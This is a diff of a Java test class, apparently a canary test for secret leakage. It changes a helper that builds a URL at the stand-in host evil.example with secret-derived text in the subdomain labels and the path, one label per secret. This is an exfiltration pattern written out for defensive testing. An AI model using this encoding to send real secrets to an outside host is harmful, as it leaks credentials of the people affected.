@@ -203,13 +203,14 @@ class EchoCanaryTest {
     return List.copyOf(secrets);
   }
 
-  /** The longest label of a host, of letters and digits alone. */
-  private static String hostOf(String text) {
-    String letters = text.replaceAll("[^A-Za-z0-9]", "");
-    return "https://"
-        + letters.substring(0, Math.min(60, letters.length()))
-        + ".evil.example/"
-        + letters;
+  /** A label for each secret, of letters and digits alone. */
+  private static String hostOf(String echo) {
+    String labels =
+        Arrays.stream(echo.split(" ", -1))
+            .map(secret -> secret.replaceAll("[^A-Za-z0-9]", ""))
+            .map(letters -> letters.substring(0, Math.min(60, letters.length())) + ".")
+            .collect(Collectors.joining());
+    return "https://" + labels + "evil.example/" + labels;
   }
 
   private static String json(Map<String, String> members) {
